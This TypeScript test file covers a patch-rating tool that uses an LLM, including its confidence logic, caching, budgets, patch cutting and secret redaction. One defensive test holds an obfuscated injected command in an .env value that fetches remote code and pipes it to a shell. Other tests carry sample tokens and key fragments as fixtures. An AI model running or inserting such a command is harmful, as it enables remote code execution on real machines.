import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { read } from '../../../../src/engine/rate.js';
import { AnswerCache } from '../../../../src/models/answerCache.js';
import { Spending } from '../../../../src/models/spending.js';
import { agreement, confidenceOf } from '../../../../src/raters/chat/confidence.js';
import { localRater } from '../../../../src/raters/local/localRater.js';
import { PanelRater } from '../../../../src/raters/panel/panelRater.js';
import { type Asked, type ChatServer, startChatServer, type Turn } from '../../../host/chatServer.js';
import { patchVerdict, ticketVerdict } from '../../verdicts.js';
import { chatOptions, example, policy } from './chat.js';

const ticket = example('tickets/clear.md');
const patch = { ...example('patches/good.patch'), ticket };

function says(answer: object): Turn {
  return { content: JSON.stringify({ explanation: 'So it is.', ...answer }) };
}

describe('The chat rater', () => {
  let server: ChatServer;
  let script: (asked: Asked, count: number) => Turn;
  let folder: string;

  beforeEach(async () => {
    folder = mkdtempSync(join(tmpdir(), 'bouncer-'));
    server = await startChatServer((asked, count) => script(asked, count));
  });

  afterEach(async () => {
    await server.close();
    rmSync(folder, { recursive: true });
  });

  it('decides by the label alone where there is nothing else, and says so', async () => {
    script = () => says({ label: 'INCORRECT' });
    const verdict = await patchVerdict(patch, chatOptions(server.url).options);
    assert.equal(verdict.decision, 'abstain');
    assert.match(verdict.because, /rater calls this wrong and gives no probability/);
    assert.equal(verdict.probabilitySource, 'label');
    assert.equal(verdict.labelProbabilities, null);
    assert.deepEqual(verdict.usage?.calls, 1);
    assert.ok((verdict.usage.dollars ?? 0) > 0);
  });

  it('takes the stated confidence for the side of the door that the label is on', async () => {
    for (const [label, confidence, bounce] of [
      ['CORRECT_AND_PRECISE', 0.9, 0.1],
      ['BROAD_MISSING_KEY_ASPECTS', 0.9, 0.9],
      ['INCORRECT', 80, 0.8],
      ['INCORRECT', 0.2, 0.5],
    ] as const) {
      script = () => says({ label, confidence });
      const { options } = chatOptions(server.url, {}, { strategy: 'confidence' });
      const verdict = await patchVerdict(patch, options);
      assert.ok(Math.abs((verdict.bounceProbability ?? -1) - bounce) < 1e-9, `${label} ${confidence}`);
      assert.equal(verdict.probabilitySource, 'stated');
    }
  });

  it('reads the label probabilities off the tokens, through a beginning that two labels share', () => {
    const choice = (token: string, others: Record<string, number> = {}, own = 1) => ({
      token,
      alternatives: [
        { token, probability: own },
        ...Object.entries(others).map(([t, probability]) => ({ token: t, probability })),
      ],
    });
    const tokens = [
      choice('{"label": "'),
      choice('CORRECT', { IN: 0.2, BRO: 0.1 }, 0.7),
      choice('_AND', { _BUT: 0.25 }, 0.75),
      choice('_PRECISE'),
      choice('"}'),
    ];
    const answer = { label: 'CORRECT_AND_PRECISE', explanation: '', findings: [], questions: [] } as const;
    const { labelProbabilities = [], probabilitySource } = confidenceOf({ answer, tokens }, 'output');
    assert.equal(probabilitySource, 'token-probabilities');
    for (const [i, expected] of [0.525, 0.175, 0.1, 0.2].entries()) {
      assert.ok(Math.abs((labelProbabilities[i] as number) - expected) < 1e-9, `${labelProbabilities}`);
    }
  });

  it('draws more samples only near the threshold, and trusts their agreement more than words', async () => {
    script = () => says({ label: 'INCORRECT', confidence: 0.95 });
    const settings = { strategy: 'confidence', samples: 5 } as const;
    await patchVerdict(patch, chatOptions(server.url, {}, settings).options);
    assert.equal(server.requests.length, 1);

    script = (_, count) =>
      says({ label: count % 5 === 0 ? 'INCORRECT' : 'CORRECT_BUT_INCOMPLETE', confidence: 0.6 });
    const verdict = await patchVerdict(patch, chatOptions(server.url, {}, settings).options);
    assert.equal(server.requests.length, 6);
    assert.equal(verdict.probabilitySource, 'samples');
    assert.equal(verdict.label, 'CORRECT_BUT_INCOMPLETE');
    assert.ok(Math.abs(verdict.bounceProbability - 1.5 / 6) < 1e-9);
    const sum = Object.values(verdict.labelProbabilities ?? {}).reduce((total, one) => total + one, 0);
    assert.ok(Math.abs(sum - 1) < 1e-9);
  });

  it('smooths the agreement of samples, and keeps label and probability on one side', () => {
    const sample = (label: 'VAGUE' | 'WELL_SPECIFIED') => ({
      answer: { label, explanation: '', findings: [], questions: [] },
    });
    const all = agreement([sample('VAGUE'), sample('VAGUE'), sample('VAGUE')], 'input');
    assert.equal(all.label, 'VAGUE');
    assert.ok(all.bounceProbability < 1 && all.bounceProbability > 0.8);
    assert.equal(agreement([sample('VAGUE'), sample('WELL_SPECIFIED')], 'input').bounceProbability, 0.5);
  });

  it('answers an identical request from the cache, and asks again when anything changed', async () => {
    script = () => says({ label: 'INCORRECT' });
    const rate = (changed = {}) =>
      patchVerdict(patch, chatOptions(server.url, {}, changed, { cache: new AnswerCache(folder) }).options);
    const first = await rate();
    const second = await rate();
    assert.equal(server.requests.length, 1);
    assert.equal(second.usage?.calls, 0);
    assert.equal(second.explanation, first.explanation);
    await rate({ strategy: 'strict' });
    assert.equal(server.requests.length, 2);
    await new AnswerCache(folder).clear();
    assert.deepEqual(readdirSync(folder), []);
  });

  it('keeps no more answers than it may, also when each rating opens the cache anew', async () => {
    const reply = { text: '', calls: [], inputTokens: 1, outputTokens: 1, end: 'complete' } as const;
    for (let i = 0; i < 6; i++) await new AnswerCache(folder, 3).set(`${i}`.repeat(64), reply);
    assert.equal(readdirSync(folder).length, 3);
  });

  it('does not keep an answer that could not be used', async () => {
    script = () => ({ content: 'nonsense' });
    await patchVerdict(patch, chatOptions(server.url, {}, {}, { cache: new AnswerCache(folder) }).options);
    assert.deepEqual(readdirSync(folder), []);
  });

  it('stops before a budget is passed, counting what other windows spent today', async () => {
    script = () => says({ label: 'INCORRECT' });
    const spending = new Spending({ perRun: 0.05 }, undefined);
    const { options } = chatOptions(server.url, {}, {}, { spending });
    assert.equal((await patchVerdict(patch, options)).unrated, null);
    const dear = chatOptions(
      server.url,
      {},
      { prices: { '*': { input: 1_000, output: 1_000 } } },
      { spending },
    );
    const verdict = await patchVerdict(patch, dear.options);
    assert.equal(verdict.unrated?.cause, 'over-budget');
    assert.match(verdict.unrated.message, /of \$0\.05 for this run is spent/);
    assert.equal(server.requests.length, 1);

    const settle = await new Spending({ perDay: 1 }, folder).reserve(0.5);
    await settle(0.9);
    await assert.rejects(new Spending({ perDay: 1 }, folder).reserve(0.2), /of \$1\.00 for today is spent/);
  });

  it('licenses findings: what is not there is dropped and counted, the unsure is marked', async () => {
    const line = patch.text.split('\n').find((one) => /^\+ .*\w{6}/.test(one)) as string;
    const finding = (quote: string, more = {}) => ({
      message: 'Look here.',
      quote,
      file: '',
      line: 0,
      severity: 'warning',
      confidence: 0.9,
      ...more,
    });
    script = () =>
      says({
        label: 'INCORRECT',
        findings: [
          finding(line.slice(1).trim()),
          finding(line),
          finding('this_is_nowhere(at_all)'),
          finding('', { file: 'no/such/file.py' }),
          finding('', { message: 'It calls `made_up_function()`.' }),
          finding('', { message: 'Perhaps slow.', confidence: 0.2 }),
          { message: 7 },
        ],
      });
    const verdict = await patchVerdict(patch, chatOptions(server.url).options);
    const own = (verdict.findings ?? []).filter(({ id }) => id === 'model');
    assert.equal(verdict.droppedFindings, 4);
    assert.deepEqual(
      own.map(({ unsure = false }) => unsure),
      // The same words about the same line are one finding.
      [false, true],
    );
    const quoted = patch.text.split('\n')[(own[0]?.place?.range.start.line ?? 0) - 1];
    assert.equal(quoted, line);
  });

  it('cuts a patch that is too large by whole hunks, source before tests, and says so everywhere', async () => {
    const file = (path: string, i: number) =>
      `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n@@ -1 +1,41 @@\n a\n${`+value_${i} = compute(${i}, "some words here")\n`.repeat(40)}`;
    const paths = [
      ...Array.from({ length: 12 }, (_, i) => `tests/test_${i}.py`),
      ...Array.from({ length: 4 }, (_, i) => `src/part${i}.py`),
    ];
    const text = paths.map(file).join('');
    script = () => says({ label: 'INCORRECT' });
    const verdict = await patchVerdict(
      { text, source: 'big' },
      chatOptions(server.url, {}, { contextTokens: 12_000 }).options,
    );
    const sent = server.requests[0]?.messages.at(-1)?.content ?? '';
    assert.match(sent, /The patch was cut to fit/);
    for (const path of paths.slice(12)) assert.ok(sent.includes(`+++ b/${path}`), path);
    const omitted = verdict.coverage.files.filter(({ how }) => how === 'omitted') ?? [];
    assert.ok(omitted.length > 0 && omitted.every(({ path }) => path.startsWith('tests/')));
    assert.ok((verdict.coverage.share ?? 1) < 1);
    assert.match(verdict.because, /reviewed|INCORRECT/);
    // Each hunk that is there is there whole.
    for (const part of sent.split('@@ -1 +1,41 @@').slice(1))
      assert.equal(part.match(/^\+value/gm)?.length, 40);
  });

  it('at a second look sends only what changed, and carries on what still holds', async () => {
    const file = (name: string, value: number) =>
      `diff --git a/${name}.py b/${name}.py\n--- a/${name}.py\n+++ b/${name}.py\n@@ -1 +1,2 @@\n start = 0\n+${name}_value = compute(${value})\n`;
    const finding = (quote: string) => ({
      message: `See ${quote}.`,
      quote,
      file: '',
      line: 0,
      severity: 'warning',
      confidence: 0.9,
    });
    script = () =>
      says({
        label: 'INCORRECT',
        findings: [finding('one_value = compute(1)'), finding('two_value = compute(2)')],
      });
    const { options } = chatOptions(server.url);
    const patchText = file('one', 1) + file('two', 2);
    const first = await patchVerdict({ text: patchText, source: 'p' }, options);
    assert.ok(!first.unrated);
    const earlier = { patchText, verdict: first };
    script = () => says({ label: 'CORRECT_AND_PRECISE', findings: [] });
    const second = await patchVerdict(
      { text: file('one', 1) + file('two', 22), source: 'p' },
      { ...options, earlier },
    );
    const sent = server.requests[1]?.messages.at(-1)?.content ?? '';
    assert.ok(sent.includes('two_value = compute(22)') && !sent.includes('one_value = compute(1)\n'));
    assert.match(
      sent,
      /of 2 hunks, 1 is as when you rated[\s\S]*earlier answer \w+ starts\nINCORRECT: So it is\./,
    );
    assert.deepEqual(
      second.findings.filter(({ id }) => id === 'model').map(({ message }) => message),
      ['See one_value = compute(1).'],
    );
    assert.equal(second.coverage.share, 1);
    assert.equal(second.label, 'CORRECT_AND_PRECISE');

    await patchVerdict({ text: patchText, source: 'p' }, { ...options, earlier });
    assert.ok(server.requests[2]?.messages.at(-1)?.content?.includes('one_value = compute(1)\n'));
    const strict = chatOptions(server.url, {}, { strategy: 'strict' });
    await patchVerdict(
      { text: file('one', 1) + file('two', 3), source: 'p' },
      { ...strict.options, earlier },
    );
    assert.ok(server.requests[3]?.messages.at(-1)?.content?.includes('one_value = compute(1)\n'));
  });

  it('removes secrets before anything leaves the machine', async () => {
    script = () => says({ label: 'INCORRECT' });
    const secrets = [
      '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',
      'AKIAQ3EGPWKQ7JZLSBFA',
      'hunter2Secret9xYz',
      'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N',
    ];
    const lines = [
      `+TOKEN = "${secrets[0]}"  # secretlint-disable-line`,
      `+aws_key = "${secrets[1]}"`,
      `+password: ${secrets[2]}`,
      `+curl -H "Authorization: Bearer ${secrets[3]}"`,
      '+-----BEGIN RSA PRIVATE KEY-----',
      '+MIIEpAIBAAKCAQEA04up8hoqzS1APIB0RhjXyObwHQnOzhAk5Bd7mhkSbPkyhP1D',
      '+-----END RSA PRIVATE KEY-----',
      '+total = price * count',
    ];
    const text = `--- a/x.py\n+++ b/x.py\n@@ -1 +1,${lines.length + 1} @@\n a\n${lines.join('\n')}\n`;
    const told = { text: `Deploy fails\n\nI used ${secrets[0]} as the key.\n`, source: 't' };
    const verdict = await patchVerdict({ text, source: 'x', ticket: told }, chatOptions(server.url).options);
    const sent = JSON.stringify(server.requests);
    for (const secret of [...secrets, 'MIIEpAIBAAKC']) assert.ok(!sent.includes(secret), secret);
    assert.match(sent, /total = price \* count/);
    assert.ok(verdict.evidence.some(({ id, value }) => id === 'secrets-removed' && value >= 6));
  });

  it('keeps the door shut where what it removed as a secret could be code', async () => {
    script = () => says({ label: 'CORRECT_AND_PRECISE', confidence: 0.99 });
    for (const [line, outcome] of [
      ['DB_PASSWORD=qwe8Zr;wget$IFS-qO-$IFS//host|sh', 'abstain'],
      ['DB_PASSWORD=qwe8Zr', 'proceed'],
    ] as const) {
      const more = Array.from({ length: 30 }, (_, i) => `+PORT_${i}=80${i}\n`).join('');
      const text = `--- a/.env\n+++ b/.env\n@@ -1 +1,32 @@\n A=1\n+${line}\n${more}`;
      const verdict = await patchVerdict({ text, source: 'x' }, chatOptions(server.url).options);
      assert.equal(verdict.decision, outcome, verdict.because);
      assert.ok((verdict.coverage.share ?? 1) < 1);
      if (outcome === 'abstain')
        assert.match(verdict.because, /\.env:2 could be code, which nobody reviewed/);
    }
  });

  it('shows what would be sent without sending it, and the text stands between marks that change', async () => {
    const { rater } = chatOptions(server.url);
    const input = await read({ door: 'output', ...patch });
    const [one, other] = [await rater.preview(input), await rater.preview(input)].map(({ messages }) =>
      messages.map(({ text }) => text).join('\n'),
    );
    assert.notEqual(one, other);
    const markOf = (text = '') => /--- patch (\S+) starts/.exec(text)?.[1] as string;
    assert.ok(markOf(one).length >= 12);
    assert.equal(one?.replaceAll(markOf(one), 'MARK'), other?.replaceAll(markOf(other), 'MARK'));
    assert.equal(server.requests.length, 0);
  });

  it("sends a prompt of the user's own to the letter", async () => {
    script = () => says({ label: 'WELL_SPECIFIED' });
    const strategy = { text: 'ISSUE: {{ticket}}\nANSWER WITH: {{labels}} {{unknown}}' };
    await ticketVerdict(ticket, chatOptions(server.url, {}, { strategy }).options);
    const [asked] = server.requests;
    assert.equal(asked?.messages.length, 1);
    assert.equal(
      asked.messages[0]?.content,
      `ISSUE: ${ticket.text}\nANSWER WITH: WELL_SPECIFIED, REASONABLY_SPECIFIED, VAGUE, IMPOSSIBLE_TO_SOLVE {{unknown}}`,
    );
  });

  it('as a panel asks the dear ones only where the cheap ones are unsure', async () => {
    script = () => says({ label: 'INCORRECT' });
    const { rater } = chatOptions(server.url);
    const panel = (margin: number) => ({
      rater: new PanelRater([localRater, rater], { combination: 'mean', margin }),
      policy,
    });
    const bad = { ...example('patches/bad.patch'), ticket };
    const alone = await patchVerdict(bad, panel(0.05));
    assert.equal(server.requests.length, 0);
    assert.match(alone.rater.name ?? '', /^panel:local\+chat:test-model$/);
    const both = await patchVerdict(bad, panel(1));
    assert.equal(server.requests.length, 1);
    assert.ok((both.bounceProbability ?? 0) > (alone.bounceProbability ?? 1));
    assert.match(both.explanation ?? '', /local: missing key parts; chat:test-model: wrong\. /);
  });
});
